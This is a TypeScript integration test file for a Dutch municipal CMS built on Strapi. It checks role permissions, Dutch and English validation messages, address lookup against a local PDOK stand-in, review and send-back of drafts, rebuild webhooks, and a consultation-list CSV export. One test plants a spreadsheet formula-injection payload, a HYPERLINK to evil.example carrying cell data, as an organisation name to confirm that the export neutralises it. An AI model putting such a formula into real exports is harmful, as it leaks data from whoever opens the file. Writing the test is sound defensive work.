/**
 * The CMS for the people who keep it current, over HTTP with real admin users: roles, input rules,
 * address lookup, "still correct", and the rebuild notification on publish.
 *
 * Runs its own Strapi (a child process) on a copy of the seeded test database, so it can point the
 * address lookup at a local PDOK stand-in and the rebuild webhook at a local receiver, and change
 * content without disturbing the suite's shared CMS.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startCms } from '../../tooling/cms-process.ts';
import { OPTION_LABELS } from '@mzo/content-types';
import { csvCell } from '@mzo/content-types/csv';
import { adminClient } from '../support/admin-api.ts';
import { csvRecords } from '../support/csv.ts';
import { demo } from '../support/demo.ts';
import { freePort } from '../support/net.ts';
import { startPdokStandIn, startWebhookSink } from '../support/pdok-stand-in.ts';
import { found } from '../support/found.ts';
import { copySeededDatabase, sqliteCmsEnv } from '../support/seeded-database.ts';

const ORG = 'api::organisation.organisation';
const ACT = 'api::activity.activity';
const ROOM = 'api::room.room';
const CONTACT = 'api::contact-person.contact-person';
const PASSWORD = 'Mzo-test-wachtwoord-1';
const SECRET = 'test-rebuild-secret';

const published = demo.organisations.filter((o: any) => o.published);
const withActivities = (o: any) => demo.activities.some((a: any) => a.organisation === o.slug);
const orgA = found(
  published.find((o: any) => withActivities(o) && demo.rooms.some((r: any) => r.providerOrganisation === o.slug)),
  'an organisation with activities and rooms',
);
const orgB = found(
  published.find((o: any) => o !== orgA && withActivities(o)),
  'a second organisation with activities',
);

let cms: Awaited<ReturnType<typeof startCms>>;
let pdok: Awaited<ReturnType<typeof startPdokStandIn>>;
let webhook: Awaited<ReturnType<typeof startWebhookSink>>;
let api: ReturnType<typeof adminClient>;
let workDir: string;
const tokens: Record<'super' | 'volunteer' | 'editor' | 'municipality' | 'englishEditor', string> = {} as never;
let volunteerId: number;
const ids: { A: string; B: string } = { A: '', B: '' };

/** Polls `check` until it returns a value (a background effect, e.g. a webhook, has happened). */
async function eventually<T>(check: () => T | undefined | false, what: string): Promise<T> {
  for (let i = 0; i < 200; i++) {
    const value = check();
    if (value) return value;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error(`gave up waiting for ${what}`);
}

async function documentIdBySlug(uid: string, slug: string) {
  const { body } = await api.call('GET', `${api.collection(uid)}?page=1&pageSize=10&filters[slug][$eq]=${slug}`, { token: tokens.super });
  return body.results[0].documentId as string;
}

async function list(uid: string, token: string, query = '') {
  const { status, body } = await api.call('GET', `${api.collection(uid)}?page=1&pageSize=100${query}`, { token });
  expect(status, JSON.stringify(body).slice(0, 300)).toBe(200);
  return body.results as Record<string, any>[];
}

beforeAll(async () => {
  workDir = mkdtempSync(join(tmpdir(), 'mzo-editorial-'));
  const databaseFile = join(workDir, 'cms.db');
  await copySeededDatabase(databaseFile);
  [pdok, webhook] = await Promise.all([startPdokStandIn(), startWebhookSink()]);
  cms = await startCms({
    port: await freePort(),
    log: 'pipe',
    env: sqliteCmsEnv(databaseFile, pdok.url, { REBUILD_WEBHOOK_URL: webhook.url, REBUILD_WEBHOOK_SECRET: SECRET }),
  });
  api = adminClient(cms.url);
  tokens.super = await api.registerFirstAdmin('beheer@example.org', PASSWORD);
  const volunteer = await api.createUser(tokens.super, {
    email: 'vrijwilliger@example.org',
    password: PASSWORD,
    roleCode: 'mzo-vrijwilliger',
    firstname: 'Vera',
  });
  volunteerId = volunteer.id;
  tokens.volunteer = volunteer.token;
  tokens.editor = (await api.createUser(tokens.super, { email: 'redactie@example.org', password: PASSWORD, roleCode: 'redacteur', firstname: 'Ruud' })).token;
  tokens.englishEditor = (
    await api.createUser(tokens.super, { email: 'editor-en@example.org', password: PASSWORD, roleCode: 'redacteur', firstname: 'Emma', preferedLanguage: 'en' })
  ).token;
  tokens.municipality = (
    await api.createUser(tokens.super, { email: 'gemeente@example.org', password: PASSWORD, roleCode: 'gemeente', firstname: 'Gijs' })
  ).token;
  ids.A = await documentIdBySlug(ORG, orgA.slug);
  ids.B = await documentIdBySlug(ORG, orgB.slug);
  const linked = await api.call('PUT', `${api.collection(ORG)}/${ids.A}`, { token: tokens.super, body: { editors: { connect: [{ id: volunteerId }] } } });
  expect(linked.status).toBe(200);
}, 240_000);

afterAll(async () => {
  await cms?.stop();
  await Promise.all([pdok?.close(), webhook?.close()]);
  if (workDir) rmSync(workDir, { recursive: true, force: true });
});

describe('the MZO-vrijwilliger role', () => {
  it('lists only the organisation the volunteer edits, and only its activities, rooms and contacts', async () => {
    expect((await list(ORG, tokens.volunteer)).map((o) => o.documentId)).toEqual([ids.A]);
    const activities = await list(ACT, tokens.volunteer, '&populate[organisation][fields][0]=documentId');
    expect(activities.length).toBe(demo.activities.filter((a: any) => a.organisation === orgA.slug).length);
    const rooms = await list(ROOM, tokens.volunteer);
    expect(rooms.map((r) => r.slug).sort()).toEqual(
      demo.rooms
        .filter((r: any) => r.providerOrganisation === orgA.slug)
        .map((r: any) => r.slug)
        .sort(),
    );
    const contacts = await list(CONTACT, tokens.volunteer);
    expect(contacts.length).toBe(demo.contacts.filter((c: any) => c.organisation === orgA.slug).length);
  });

  it("gets 403 on another organisation and on that organisation's activities", async () => {
    expect((await api.call('GET', `${api.collection(ORG)}/${ids.B}`, { token: tokens.volunteer })).status).toBe(403);
    expect((await api.call('PUT', `${api.collection(ORG)}/${ids.B}`, { token: tokens.volunteer, body: { phone: '030 123 4567' } })).status).toBe(403);
    const bActivities = await list(ACT, tokens.super, `&filters[organisation][documentId][$eq]=${ids.B}`);
    expect(bActivities.length).toBeGreaterThan(0);
    for (const activity of bActivities) {
      expect((await api.call('GET', `${api.collection(ACT)}/${activity.documentId}`, { token: tokens.volunteer })).status).toBe(403);
      expect((await api.call('PUT', `${api.collection(ACT)}/${activity.documentId}`, { token: tokens.volunteer, body: { title: 'Overgenomen' } })).status).toBe(
        403,
      );
    }
  });

  it('cannot link an activity of their organisation to another one; it stays where it was', async () => {
    const [activity] = await list(ACT, tokens.volunteer);
    const { status, body } = await api.call('PUT', `${api.collection(ACT)}/${activity.documentId}`, {
      token: tokens.volunteer,
      body: { organisation: { connect: [{ documentId: ids.B, locale: 'nl' }], disconnect: [] } },
    });
    expect(status).toBe(400);
    expect(body.error.details.errors[0]).toMatchObject({ path: ['organisation'], message: expect.stringContaining('beheerder') });
    const after = await list(ACT, tokens.super, `&filters[documentId][$eq]=${activity.documentId}&populate[organisation][fields][0]=documentId`);
    expect(after[0].organisation.documentId).toBe(ids.A);
  });

  it('creates activities and rooms for their own organisation only, as drafts it cannot publish', async () => {
    const activity = {
      title: 'Taalcafé op zaterdag',
      startsAt: '2027-01-09T10:00:00.000Z',
      endsAt: '2027-01-09T12:00:00.000Z',
      recurrence: 'FREQ=WEEKLY;BYDAY=SA',
    };
    const forB = await api.call('POST', api.collection(ACT), {
      token: tokens.volunteer,
      body: { ...activity, organisation: { connect: [{ documentId: ids.B }] } },
    });
    expect(forB.status).toBe(400);
    // Without an organisation, a volunteer who edits exactly one gets it linked to that one (issue 15).
    const orphan = await api.call('POST', api.collection(ACT), { token: tokens.volunteer, body: { ...activity, title: 'Zonder organisatie' } });
    expect(orphan.status, JSON.stringify(orphan.body).slice(0, 400)).toBe(201);
    const linked = await api.call('GET', `${api.collection(ACT)}/${orphan.body.data.documentId}?populate[organisation][fields][0]=documentId`, {
      token: tokens.super,
    });
    expect(linked.body.data.organisation?.documentId).toBe(ids.A);
    expect((await api.call('DELETE', `${api.collection(ACT)}/${orphan.body.data.documentId}`, { token: tokens.super })).status).toBe(200);
    // The admin sends its placeholder slug ("activity") unless the editor regenerates it.
    const own = await api.call('POST', api.collection(ACT), {
      token: tokens.volunteer,
      body: { ...activity, slug: 'activity', organisation: { connect: [{ documentId: ids.A }] } },
    });
    expect(own.status, JSON.stringify(own.body).slice(0, 400)).toBe(201);
    // The create response is checked against the permissions of the moment before it existed, so read it back.
    const created = await api.call('GET', `${api.collection(ACT)}/${own.body.data.documentId}`, { token: tokens.volunteer });
    expect(created.status).toBe(200);
    expect(created.body.data.slug).toBe('taalcafe-op-zaterdag');
    const publish = await api.call('POST', `${api.collection(ACT)}/${own.body.data.documentId}/actions/publish`, { token: tokens.volunteer, body: {} });
    expect(publish.status).toBe(403);
    const room = await api.call('POST', api.collection(ROOM), {
      token: tokens.volunteer,
      body: {
        name: 'Zaaltje achter',
        sizeClass: 'S',
        areaM2: 30,
        capacity: 20,
        tariff: 'tarief-100',
        providerOrganisation: { connect: [{ documentId: ids.A }] },
      },
    });
    expect(room.status, JSON.stringify(room.body).slice(0, 400)).toBe(201);
    // A Redacteur reviews and publishes it.
    const published = await api.call('POST', `${api.collection(ACT)}/${own.body.data.documentId}/actions/publish`, { token: tokens.editor, body: {} });
    expect(published.status, JSON.stringify(published.body).slice(0, 400)).toBe(200);
  });

  it('does not see or change who edits the organisation, nor the editors’ notes', async () => {
    const { body } = await api.call('GET', `${api.collection(ORG)}/${ids.A}`, { token: tokens.volunteer });
    expect(body.data).not.toHaveProperty('editors');
    expect(body.data).not.toHaveProperty('editorNotes');
    await api.call('PUT', `${api.collection(ORG)}/${ids.A}`, {
      token: tokens.volunteer,
      body: { editors: { connect: [{ id: 1 }] }, editorNotes: 'mag ik niet' },
    });
    const stored = await api.call('GET', `${api.collection(ORG)}/${ids.A}`, { token: tokens.super });
    expect(stored.body.data.editorNotes ?? null).not.toBe('mag ik niet');
  });
});

describe('the Redacteur role', () => {
  it('finds the volunteers and makes one an editor of an organisation', async () => {
    const options = await api.call('GET', `/content-manager/relations/${ORG}/editors?pageSize=50`, { token: tokens.editor });
    expect(options.status, JSON.stringify(options.body).slice(0, 300)).toBe(200);
    expect(options.body.results.map((u: any) => u.id)).toContain(volunteerId);
    const linked = await api.call('PUT', `${api.collection(ORG)}/${ids.B}`, { token: tokens.editor, body: { editors: { connect: [{ id: volunteerId }] } } });
    expect(linked.status).toBe(200);
    expect((await api.call('GET', `${api.collection(ORG)}/${ids.B}`, { token: tokens.volunteer })).status).toBe(200);
    const unlinked = await api.call('PUT', `${api.collection(ORG)}/${ids.B}`, {
      token: tokens.editor,
      body: { editors: { disconnect: [{ id: volunteerId }] } },
    });
    expect(unlinked.status).toBe(200);
    expect((await api.call('GET', `${api.collection(ORG)}/${ids.B}`, { token: tokens.volunteer })).status).toBe(403);
  });
});

describe('the Gemeente role', () => {
  it('reads every organisation and the contacts meant for officials, but not hidden ones', async () => {
    expect((await list(ORG, tokens.municipality)).length).toBe(Math.min(100, demo.organisations.length));
    const visibilities = new Set((await list(CONTACT, tokens.municipality, '&pageSize=100')).map((c) => c.visibility));
    expect(visibilities.has('officials')).toBe(true);
    expect(visibilities.has('hidden')).toBe(false);
    const { body } = await api.call('GET', `${api.collection(ORG)}/${ids.B}`, { token: tokens.municipality });
    expect(body.data.name).toBe(orgB.name);
  });

  it('changes nothing: no update, create, publish, delete or "still correct"', async () => {
    const token = tokens.municipality;
    expect((await api.call('PUT', `${api.collection(ORG)}/${ids.B}`, { token, body: { phone: '030 123 4567' } })).status).toBe(403);
    expect((await api.call('POST', api.collection(ORG), { token, body: { name: 'Nieuw' } })).status).toBe(403);
    expect((await api.call('POST', `${api.collection(ORG)}/${ids.B}/actions/publish`, { token, body: {} })).status).toBe(403);
    expect((await api.call('POST', `${api.collection(ORG)}/${ids.B}/actions/unpublish`, { token, body: {} })).status).toBe(403);
    expect((await api.call('DELETE', `${api.collection(ORG)}/${ids.B}`, { token })).status).toBe(403);
    expect((await api.call('POST', `/mzo/organisations/${ids.B}/confirm`, { token })).status).toBe(403);
  });
});

describe('input rules in the admin API', () => {
  it('refuses invalid input with a Dutch message naming each field, and keeps what was saved', async () => {
    const before = (await api.call('GET', `${api.collection(ORG)}/${ids.A}`, { token: tokens.volunteer })).body.data;
    const { status, body } = await api.call('PUT', `${api.collection(ORG)}/${ids.A}`, {
      token: tokens.volunteer,
      body: {
        phone: '12345',
        kvkNumber: '1234',
        website: 'www.zonder-https.nl',
        email: 'naam@',
        foundedYear: 2999,
        themes: { set: [] },
        address: { postcode: '1011 AB', houseNumber: '1' },
      },
    });
    expect(status).toBe(400);
    expect(body.error.name).toBe('ValidationError');
    const byPath = Object.fromEntries(body.error.details.errors.map((e: any) => [e.path.join('.'), e.message]));
    expect(byPath).toMatchObject({
      phone: expect.stringMatching(/^Telefoonnummer: /),
      kvkNumber: expect.stringContaining('8 cijfers'),
      website: expect.stringContaining('https://'),
      email: expect.stringMatching(/^E-mailadres: /),
      foundedYear: expect.stringContaining('jaartal'),
      themes: expect.stringContaining('minstens één thema'),
      'address.postcode': expect.stringContaining('gemeente Utrecht'),
    });
    const after = (await api.call('GET', `${api.collection(ORG)}/${ids.A}`, { token: tokens.volunteer })).body.data;
    expect(after.phone).toBe(before.phone);
    expect(after.address).toEqual(before.address);
    expect(after.themes.count).toBe(before.themes.count);
  });

  it('answers in English to an admin user whose interface language is English', async () => {
    const { status, body } = await api.call('PUT', `${api.collection(ORG)}/${ids.B}`, { token: tokens.englishEditor, body: { kvkNumber: '12 34' } });
    expect(status).toBe(400);
    expect(body.error.details.errors[0].message).toBe('Chamber of Commerce (KvK) number: a KvK number has exactly 8 digits, for example 12345678.');
  });

  it('refuses an activity that ends before it starts, or with an invalid recurrence', async () => {
    const [activity] = await list(ACT, tokens.volunteer);
    const { status, body } = await api.call('PUT', `${api.collection(ACT)}/${activity.documentId}`, {
      token: tokens.volunteer,
      body: { startsAt: '2027-02-01T18:00:00.000Z', endsAt: '2027-02-01T17:00:00.000Z', recurrence: 'elke week' },
    });
    expect(status).toBe(400);
    expect(body.error.details.errors.map((e: any) => e.path.join('.')).sort()).toEqual(['endsAt', 'recurrence']);
  });

  it('refuses a room with no capacity or a size class that does not fit its area', async () => {
    const [room] = await list(ROOM, tokens.volunteer);
    const { status, body } = await api.call('PUT', `${api.collection(ROOM)}/${room.documentId}`, {
      token: tokens.volunteer,
      body: { capacity: 0, areaM2: 120, sizeClass: 'S' },
    });
    expect(status).toBe(400);
    expect(body.error.details.errors.map((e: any) => e.path.join('.')).sort()).toEqual(['capacity', 'sizeClass']);
  });

  it('stores postcodes as 1234 AB and KvK numbers without spaces', async () => {
    const { status, body } = await api.call('PUT', `${api.collection(ORG)}/${ids.B}`, { token: tokens.editor, body: { kvkNumber: '9012 3456' } });
    expect(status, JSON.stringify(body).slice(0, 300)).toBe(200);
    expect(body.data.kvkNumber).toBe('90123456');
  });

  it('makes slugs from the name, unique per type and locale', async () => {
    const base = { summary: 'Een nieuw netwerk.', legalForm: 'informeel-netwerk', themes: { connect: [] as unknown[] }, serves: { connect: [] as unknown[] } };
    const themes = await list('api::theme.theme', tokens.editor);
    const wijken = await list('api::wijk.wijk', tokens.editor);
    base.themes.connect = [{ documentId: themes[0].documentId }];
    base.serves.connect = [{ documentId: wijken[0].documentId }];
    const first = await api.call('POST', api.collection(ORG), { token: tokens.editor, body: { ...base, name: 'Netwerk Zonnebloem' } });
    const second = await api.call('POST', api.collection(ORG), { token: tokens.editor, body: { ...base, name: 'Netwerk Zonnebloem' } });
    expect([first.status, second.status], JSON.stringify(second.body).slice(0, 300)).toEqual([201, 201]);
    expect([first.body.data.slug, second.body.data.slug]).toEqual(['netwerk-zonnebloem', 'netwerk-zonnebloem-2']);
    const taken = await api.call('PUT', `${api.collection(ORG)}/${second.body.data.documentId}`, {
      token: tokens.editor,
      body: { slug: 'netwerk-zonnebloem' },
    });
    expect(taken.status).toBe(400);
    expect(taken.body.error.details.errors[0].path).toEqual(['slug']);
  });
});

describe('address lookup (PDOK stand-in)', () => {
  it('fills street, city, coordinates, buurt and wijk from postcode and house number', async () => {
    const { status, body } = await api.call('PUT', `${api.collection(ORG)}/${ids.A}`, {
      token: tokens.volunteer,
      body: { address: { postcode: '3512ae', houseNumber: '11', street: '', city: '' } },
    });
    expect(status, JSON.stringify(body).slice(0, 400)).toBe(200);
    const stored = (await api.call('GET', `${api.collection(ORG)}/${ids.A}?populate[locatedIn][fields][0]=code`, { token: tokens.super })).body.data;
    expect(stored.address).toMatchObject({
      street: 'Neude',
      postcode: '3512 AE',
      city: 'Utrecht',
      latitude: 52.09252,
      longitude: 5.11871,
      buurtCode: 'BU03440602',
      addressCheck: 'found',
    });
    const wijk = await api.call('GET', `${api.collection('api::wijk.wijk')}?filters[code][$eq]=WK034406`, { token: tokens.super });
    const locatedIn = await list(
      ORG,
      tokens.super,
      `&filters[documentId][$eq]=${ids.A}&filters[locatedIn][documentId][$eq]=${wijk.body.results[0].documentId}`,
    );
    expect(locatedIn.length).toBe(1);
  });

  it('picks the address with the right letter, and knows Vleuten-De Meern (345x)', async () => {
    const [room] = await list(ROOM, tokens.volunteer);
    const lettered = await api.call('PUT', `${api.collection(ROOM)}/${room.documentId}`, {
      token: tokens.volunteer,
      body: { address: { postcode: '3526 KV', houseNumber: '5', houseNumberAddition: 'a' } },
    });
    expect(lettered.status, JSON.stringify(lettered.body).slice(0, 300)).toBe(200);
    expect(lettered.body.data.address).toMatchObject({ street: 'Columbuslaan', latitude: 52.07911, addressCheck: 'found' });
    const meern = await api.call('PUT', `${api.collection(ROOM)}/${room.documentId}`, {
      token: tokens.volunteer,
      body: { address: { postcode: '3453 JX', houseNumber: '20' } },
    });
    expect(meern.body.data.address).toMatchObject({ city: 'De Meern', buurtCode: 'BU03441003', addressCheck: 'found' });
  });

  it('saves the location as entered, marked and logged, when PDOK cannot be reached', async () => {
    pdok.state.down = true;
    try {
      const manual = { postcode: '3581 AB', houseNumber: '7', street: 'Handmatige straat', city: 'Utrecht', latitude: 52.0901, longitude: 5.1302 };
      const { status, body } = await api.call('PUT', `${api.collection(ORG)}/${ids.A}`, { token: tokens.volunteer, body: { address: manual } });
      expect(status, JSON.stringify(body).slice(0, 300)).toBe(200);
      expect(body.data.address).toMatchObject({ ...manual, addressCheck: 'unreachable' });
      expect(cms.output()).toContain(`Address lookup for organisation ${orgA.name} failed (${pdok.url}`);
    } finally {
      pdok.state.down = false;
    }
    // Saving again once PDOK is back retries the lookup (this address is not in the register).
    const again = await api.call('PUT', `${api.collection(ORG)}/${ids.A}`, { token: tokens.volunteer, body: { phone: '030 123 4567' } });
    expect(again.status).toBe(200);
    const retried = await api.call('PUT', `${api.collection(ORG)}/${ids.A}`, {
      token: tokens.volunteer,
      body: { address: { postcode: '3581 AB', houseNumber: '7', latitude: 52.0901, longitude: 5.1302 } },
    });
    expect(retried.body.data.address.addressCheck).toBe('not-found');
  });
});

describe('"still correct" and stale profiles', () => {
  it('lets the volunteer confirm their profile with one call, live at once, and not someone else’s', async () => {
    const { status, body } = await api.call('POST', `/mzo/organisations/${ids.A}/confirm`, { token: tokens.volunteer });
    expect(status).toBe(200);
    const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/Amsterdam' }).format(new Date());
    expect(body.data.lastConfirmed).toBe(today);
    const live = await fetch(`${cms.url}/api/organisations?filters[slug][$eq]=${orgA.slug}&fields[0]=lastConfirmed`).then((r) => r.json());
    expect(live.data[0].lastConfirmed).toBe(today);
    expect((await api.call('POST', `/mzo/organisations/${ids.B}/confirm`, { token: tokens.volunteer })).status).toBe(403);
    await eventually(() => webhook.received.find((r) => r.body.event === 'organisation.confirm' && r.body.documentId === ids.A), 'the confirm webhook');
  });

  it('shows the Redacteur every profile not confirmed for 12 months, oldest first', async () => {
    const { status, body } = await api.call('GET', '/mzo/organisations/stale', { token: tokens.editor });
    expect(status).toBe(200);
    const cutoff = body.meta.cutoff as string;
    const expected = demo.organisations.filter((o: any) => o.slug !== orgA.slug && (!o.lastConfirmed || o.lastConfirmed < cutoff));
    const demoSlugs = new Set(demo.organisations.map((o: any) => o.slug));
    expect(
      body.data
        .map((o: any) => o.slug)
        .filter((slug: string) => demoSlugs.has(slug))
        .sort(),
    ).toEqual(expected.map((o: any) => o.slug).sort());
    const dates = body.data.map((o: any) => o.lastConfirmed ?? '');
    expect(dates).toEqual([...dates].sort());
    const own = await api.call('GET', '/mzo/organisations/stale', { token: tokens.volunteer });
    expect(own.body.data.every((o: any) => o.documentId === ids.A)).toBe(true);
  });
});

describe('waiting for publication (GET /mzo/review)', () => {
  it('lists new and changed drafts, newest first, to whoever may publish, and nothing to a volunteer', async () => {
    const { status, body } = await api.call('GET', '/mzo/review', { token: tokens.editor });
    expect(status).toBe(200);
    const types = ['api::organisation.organisation', 'api::activity.activity', 'api::room.room', 'api::consultation.consultation'];
    for (const item of body.data) {
      expect(types).toContain(item.model);
      expect(typeof item.documentId).toBe('string');
      expect(typeof item.neverPublished).toBe('boolean');
    }
    const dates = body.data.map((item: any) => String(item.updatedAt));
    expect(dates).toEqual([...dates].sort().reverse());
    const volunteer = await api.call('GET', '/mzo/review', { token: tokens.volunteer });
    expect(volunteer.status).toBe(200);
    expect(volunteer.body.data).toEqual([]);
    expect((await api.call('GET', '/mzo/review')).status).toBe(401);
  });
});

describe('reviewing a draft: field by field, publish or send back (GET …/changes, POST …/send-back)', () => {
  it('shows the Redacteur what the volunteer changed against what is public, in words; sent back, the volunteer reads why', async () => {
    const path = `/mzo/review/${ORG}/${ids.A}`;
    const before = (await api.call('GET', `${api.collection(ORG)}/${ids.A}?locale=nl&status=published`, { token: tokens.super })).body.data;
    const legalForm = before.legalForm === 'stichting' ? 'vereniging' : 'stichting';
    const summary = `Wij zijn ${orgA.name} en we zijn er voor iedereen in de wijk.`;
    const saved = await api.call('PUT', `${api.collection(ORG)}/${ids.A}?locale=nl`, { token: tokens.volunteer, body: { summary, legalForm } });
    expect(saved.status, JSON.stringify(saved.body).slice(0, 300)).toBe(200);

    const { status, body } = await api.call('GET', `${path}/changes`, { token: tokens.editor });
    expect(status).toBe(200);
    const byName = Object.fromEntries(body.data.map((change: any) => [change.name, change]));
    expect(byName.summary).toEqual({ name: 'summary', label: 'Korte beschrijving', published: before.summary, draft: summary });
    // Options by their label, never the stored code.
    expect(byName.legalForm).toEqual({
      name: 'legalForm',
      label: 'Rechtsvorm',
      published: OPTION_LABELS[before.legalForm].nl,
      draft: OPTION_LABELS[legalForm].nl,
    });
    // Only what changed: the name and the system's fields are not listed.
    expect(Object.keys(byName)).not.toContain('name');
    for (const system of ['updatedAt', 'slug', 'editors']) expect(Object.keys(byName)).not.toContain(system);

    // Only who may publish the type sees the changes or sends back; without a reason, nothing is sent back.
    expect((await api.call('GET', `${path}/changes`, { token: tokens.volunteer })).status).toBe(403);
    expect((await api.call('POST', `${path}/send-back`, { token: tokens.volunteer, body: { reason: 'Nee' } })).status).toBe(403);
    const empty = await api.call('POST', `${path}/send-back`, { token: tokens.editor, body: { reason: '  ' } });
    expect(empty.status).toBe(400);
    expect(empty.body.error.message).toMatch(/waarom/);
    expect((await api.call('GET', `/mzo/review/${ORG}/nietbestaand/changes`, { token: tokens.editor })).status).toBe(404);

    const reason = 'De rechtsvorm klopt niet met de KvK: het is een stichting. Wil je dat aanpassen?';
    const sent = await api.call('POST', `${path}/send-back`, { token: tokens.editor, body: { reason } });
    expect(sent.status).toBe(200);
    const mine = (await api.call('GET', '/mzo/my-organisations', { token: tokens.volunteer })).body.data;
    const card = mine.find((o: any) => o.documentId === ids.A);
    expect(card.sentBack).toMatchObject({ reason, by: 'Ruud' });
    // Saved again, it waits for the redactie again, without the old reason.
    await new Promise((resolve) => setTimeout(resolve, 20));
    expect(
      (await api.call('PUT', `${api.collection(ORG)}/${ids.A}?locale=nl`, { token: tokens.volunteer, body: { legalForm: before.legalForm } })).status,
    ).toBe(200);
    const again = (await api.call('GET', '/mzo/my-organisations', { token: tokens.volunteer })).body.data.find((o: any) => o.documentId === ids.A);
    expect(again.sentBack).toBeUndefined();
    expect(again.state).toBe('changed');
  });
});

describe('publish → rebuild notification', () => {
  it('sends only event, model and documentId on publish and unpublish, with the shared secret; not on saving a draft', async () => {
    const [activity] = await list(ACT, tokens.editor, `&filters[organisation][documentId][$eq]=${ids.B}`);
    const start = webhook.received.length;
    const saved = await api.call('PUT', `${api.collection(ACT)}/${activity.documentId}`, {
      token: tokens.editor,
      body: { summary: 'Nieuwe korte beschrijving.' },
    });
    expect(saved.status).toBe(200);
    const publish = await api.call('POST', `${api.collection(ACT)}/${activity.documentId}/actions/publish`, { token: tokens.editor, body: {} });
    expect(publish.status, JSON.stringify(publish.body).slice(0, 300)).toBe(200);
    const published = await eventually(() => webhook.received.slice(start).find((r) => r.body.event === 'entry.publish'), 'the publish webhook');
    expect(published.body).toEqual({ event: 'entry.publish', model: ACT, documentId: activity.documentId });
    expect(published.authorization).toBe(`Bearer ${SECRET}`);
    const unpublish = await api.call('POST', `${api.collection(ACT)}/${activity.documentId}/actions/unpublish`, { token: tokens.editor, body: {} });
    expect(unpublish.status).toBe(200);
    await eventually(() => webhook.received.slice(start).find((r) => r.body.event === 'entry.unpublish'), 'the unpublish webhook');
    expect(webhook.received.slice(start).some((r) => r.body.event === 'entry.update')).toBe(false);
  });
});

describe('the consultation list for municipal staff in the CMS', () => {
  const optedIn = published.filter((o: any) => o.consultationOptIn);
  const officialsOnly = demo.contacts.filter((c: any) => c.visibility === 'officials' && optedIn.some((o: any) => o.slug === c.organisation));
  const hidden = demo.contacts.filter((c: any) => c.visibility === 'hidden');

  it('gives the Gemeente role the opted-in organisations with officials-only contacts, never hidden ones', async () => {
    expect(officialsOnly.length).toBeGreaterThan(0);
    const { status, body } = await api.call('GET', '/mzo/consultation-list', { token: tokens.municipality });
    expect(status).toBe(200);
    expect(body.data.map((r: any) => r.slug).sort()).toEqual(optedIn.map((o: any) => o.slug).sort());
    const emails = body.data.flatMap((r: any) => r.contacts.map((c: any) => c.email));
    for (const c of officialsOnly) expect(emails).toContain(c.email);
    for (const c of hidden) expect(emails).not.toContain(c.email);
  });

  it('filters by themes × wijken and exports CSV', async () => {
    const o = optedIn[0];
    const theme = o.consultationThemes[0];
    const { body } = await api.call('GET', `/mzo/consultation-list?themes=${theme}&wijken=${o.locatedIn}`, { token: tokens.municipality });
    const expected = optedIn.filter((x: any) => x.consultationThemes.includes(theme) && (x.locatedIn === o.locatedIn || x.serves.includes(o.locatedIn)));
    expect(body.data.map((r: any) => r.slug).sort()).toEqual(expected.map((x: any) => x.slug).sort());
    const csv = await fetch(`${cms.url}/mzo/consultation-list?format=csv`, { headers: { authorization: `Bearer ${tokens.municipality}` } });
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const text = await csv.text();
    expect(text).toContain(officialsOnly[0].email);
    for (const c of hidden) expect(text).not.toContain(c.email);
  });

  it('exports CSV that a strict reader takes row for row as the list, with a formula as a name made harmless', async () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&A2,"Klik hier")';
    const [theme] = await list('api::theme.theme', tokens.editor, '&locale=nl');
    const [wijk] = await list('api::wijk.wijk', tokens.editor, '&locale=nl');
    const created = await api.call('POST', `${api.collection(ORG)}?locale=nl`, {
      token: tokens.editor,
      body: {
        name: formula,
        summary: 'Een naam die een spreadsheetformule is.',
        legalForm: 'stichting',
        consultationOptIn: true,
        phone: '+31 30 123 4567',
        themes: { connect: [{ documentId: theme.documentId }] },
        serves: { connect: [{ documentId: wijk.documentId }] },
      },
    });
    expect(created.status, JSON.stringify(created.body).slice(0, 300)).toBe(201);
    const publish = await api.call('POST', `${api.collection(ORG)}/${created.body.data.documentId}/actions/publish?locale=nl`, {
      token: tokens.editor,
      body: {},
    });
    expect(publish.status, JSON.stringify(publish.body).slice(0, 300)).toBe(200);

    const { body } = await api.call('GET', '/mzo/consultation-list', { token: tokens.municipality });
    const response = await fetch(`${cms.url}/mzo/consultation-list?format=csv`, { headers: { authorization: `Bearer ${tokens.municipality}` } });
    const bytes = new Uint8Array(await response.arrayBuffer());
    // A UTF-8 byte order mark, for Excel.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = csvRecords(new TextDecoder().decode(bytes));
    // One record per contact person (or one for an organisation without any), in the order of the list.
    const expected = body.data.flatMap((r: any) =>
      (r.contacts.length ? r.contacts : [null]).map((c: any) => ({ organisatie: r.organisation, contact_email: c?.email })),
    );
    expect(records.map((r) => ({ organisatie: r.organisatie, contact_email: r.contact_email || undefined }))).toEqual(
      expected.map((e: any) => ({ organisatie: csvCell(e.organisatie), contact_email: e.contact_email ?? undefined })),
    );
    const row = records.find((r) => r.organisatie.includes('HYPERLINK'))!;
    expect(row.organisatie).toBe(`'${formula}`);
    expect(row.telefoon).toBe('+31 30 123 4567');
  });

  it('refuses anyone not signed in to the admin', async () => {
    expect((await api.call('GET', '/mzo/consultation-list')).status).toBe(401);
  });

  it('refuses a volunteer: the list is for the Gemeente and Redacteur roles', async () => {
    expect((await api.call('GET', '/mzo/consultation-list', { token: tokens.volunteer })).status).toBe(403);
  });
});
